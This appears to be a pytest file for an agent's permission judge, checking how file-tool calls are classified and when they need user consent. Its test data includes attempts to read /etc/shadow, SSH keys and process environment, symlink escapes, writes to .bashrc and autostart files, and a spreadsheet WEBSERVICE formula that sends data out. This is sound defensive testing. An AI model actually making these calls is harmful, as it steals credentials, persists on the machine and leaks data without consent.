"""What may be read, written and renamed without a question: by where it really lies."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.tools.policy.test_policy import Judge
from ufo.schema.action_class import ActionClass

OBSERVE, EDIT, CREATE = ActionClass.OBSERVE, ActionClass.EDIT, ActionClass.CREATE
OUTSIDE, OVERWRITE, SYSTEM = ActionClass.OUTSIDE, ActionClass.OVERWRITE, ActionClass.SYSTEM


@pytest.fixture
def judge(tmp_path: Path) -> Judge:
    work = tmp_path / "work"
    (work / "in").mkdir(parents=True)
    (tmp_path / "far").mkdir()
    (tmp_path / "far/secret.txt").write_text("x")
    for name in ("a.txt", "in/1.jpg", "in/2.jpg", "in/table.csv", "in/talk.pdf"):
        (work / name).write_text("before")
    (work / "link").symlink_to(tmp_path / "far")
    return Judge(work)


@pytest.mark.parametrize(
    ("tool", "arguments", "expected"),
    [
        ("read_file", {"path": "a.txt"}, OBSERVE),
        ("read_file", {"path": "/etc/os-release"}, OBSERVE),
        ("read_file", {"path": "/etc/shadow"}, OUTSIDE),
        ("read_file", {"path": "~/.ssh/id_rsa"}, OUTSIDE),
        ("read_file", {"path": "/proc/self/environ"}, OUTSIDE),
        ("read_file", {"path": "../far/secret.txt"}, OUTSIDE),
        ("read_file", {"path": "link/secret.txt"}, OUTSIDE),
        ("read_file", {"path": ["a.txt", "in/table.csv"]}, OBSERVE),
        ("read_file", {"path": ["a.txt", "link/secret.txt"]}, OUTSIDE),
        ("read_file", {"path": ["link/secret.txt", "a.txt", "~/.ssh/id_rsa"]}, OUTSIDE),
        ("read_file", {"path": "link/*.txt"}, OUTSIDE),
        ("change_picture", {"source": ["in/1.jpg", "in/2.jpg"], "target": "new/{name}.png"}, CREATE),
        ("change_picture", {"source": "in/*.jpg", "target": "new/"}, CREATE),
        ("change_picture", {"source": ["in/1.jpg", "link/secret.txt"], "target": "new/"}, OUTSIDE),
        ("change_picture", {"source": "in/*.jpg", "target": "link/{n}.png"}, OUTSIDE),
        ("change_picture", {"source": "in/*.jpg", "target": "~/.config/autostart/"}, SYSTEM),
        ("import_csv", {"path": "a.txt"}, EDIT),
        ("import_csv", {"path": "link/secret.txt"}, OUTSIDE),
        ("import_csv", {"path": "/dev/stdin"}, OUTSIDE),
        ("edit_image", {"action": "insert", "path": "~/.ssh/id_rsa"}, OUTSIDE),
        ("edit_image", {"action": "remove", "number": 1}, EDIT),
        ("add_to_slide", {"kind": "image", "file": "../far/secret.txt"}, OUTSIDE),
        ("export_csv", {"file_name": "new"}, CREATE),
        ("export_csv", {"file_name": "table", "file_dir": "in"}, OVERWRITE),
        ("export_slides", {"file_name": "talk", "file_dir": "in"}, OVERWRITE),
        ("export_slides", {"file_name": "talk.png", "file_dir": "in"}, CREATE),
        ("find_files", {"folder": "."}, OBSERVE),
        ("find_files", {"folder": "link"}, OUTSIDE),
        ("find_files", {"folder": "~/.config"}, OUTSIDE),
        ("write_file", {"path": "new.txt", "text": "x"}, CREATE),
        ("write_file", {"path": "a.txt", "text": "x", "mode": "append"}, EDIT),
        ("write_file", {"path": "a.txt", "text": "x", "mode": "over"}, OVERWRITE),
        ("write_file", {"path": ".bashrc", "text": "x", "mode": "append"}, SYSTEM),
        ("write_file", {"path": "x.desktop", "text": "x"}, SYSTEM),
        ("write_file", {"path": "link/new.txt", "text": "x"}, OUTSIDE),
        ("write_file", {"path": "link/secret.txt", "text": "x", "mode": "append"}, OVERWRITE),
        ("rename_files", {"files": "in/*.jpg", "to": "p-{n}.jpg"}, CREATE),
        ("rename_files", {"files": "in/*.jpg", "to": ".{n}rc"}, SYSTEM),
        ("rename_files", {"files": "link/*.txt", "to": "{n}.txt"}, OUTSIDE),
        ("rename_files", {"files": "nothing*", "to": "{n}.txt"}, EDIT),
        ("restore_file", {"name": "x", "target": "x.txt"}, CREATE),
        ("restore_file", {"name": "x", "target": "~/.profile"}, SYSTEM),
        ("pack_archive", {"sources": ["in"], "target": "in.zip"}, CREATE),
        ("pack_archive", {"sources": ["link"], "target": "far.zip"}, OUTSIDE),
        ("pack_archive", {"sources": ["~/.ssh"], "target": "keys.zip"}, OUTSIDE),
        ("pack_archive", {"sources": [{"path": "~/.ssh", "name": "x"}], "target": "keys.zip"}, OUTSIDE),
        ("pack_archive", {"sources": ["in"], "target": "in/table.csv"}, OVERWRITE),
        ("unpack_archive", {"source": "a.zip", "target": "out"}, CREATE),
        ("unpack_archive", {"source": "a.zip", "target": "~/.config"}, SYSTEM),
        ("unpack_archive", {"source": "a.zip", "target": "link"}, OUTSIDE),
        ("pdf_of_pages", {"parts": [{"file": "a.pdf"}], "target": "b.pdf"}, CREATE),
        ("pdf_of_pages", {"parts": [{"file": "a.pdf"}, {"file": "link/b.pdf"}], "target": "c.pdf"}, OUTSIDE),
        ("make_document", {"target": "b.ods", "sheets": {"A": [["=SUM(A1:A2)"]]}}, CREATE),
        ("make_document", {"target": "b.ods", "sheets": {"A": [['=WEBSERVICE("http://x/"&A1)']]}}, ActionClass.SEND),
        ("convert_document", {"source": "a.odt", "target": ".bashrc"}, SYSTEM),
        ("convert_document", {"source": "a.odt", "target": "new.pdf", "over": True}, CREATE),
        ("convert_document", {"source": "a.odt", "target": "link/secret.txt", "over": True}, OVERWRITE),
        ("convert_document", {"source": "~/.ssh/id", "target": "new.txt", "over": True}, OUTSIDE),
        ("merge_letters", {"source": "a.odt", "data": "a.csv", "target": "to {Name}.odt"}, CREATE),
        ("merge_letters", {"source": "a.odt", "data": "~/.ssh/id", "target": "to {n}.odt"}, OUTSIDE),
        ("merge_letters", {"source": "a.odt", "data": "a.csv", "target": "link/{n}.odt"}, OUTSIDE),
    ],
)
async def test_a_call_is_judged_by_where_its_files_really_lie(
    judge: Judge, tool: str, arguments: dict[str, object], expected: ActionClass
) -> None:
    verdict = await judge.of(tool, **arguments)
    assert verdict.action_class is expected, verdict
    assert verdict.needs_consent is (expected in (OUTSIDE, OVERWRITE, SYSTEM, ActionClass.SEND))


async def test_of_several_files_to_be_read_those_are_named_that_need_consent(judge: Judge) -> None:
    judged = (await judge.of("read_file", path=["a.txt", "link/secret.txt", "~/.ssh/id_rsa"])).judged
    assert judged is not None
    assert "secret.txt" in judged.question and "id_rsa" in judged.question and "a.txt" not in judged.question
    assert [path.name for path in judged.paths] == ["secret.txt", "id_rsa"]
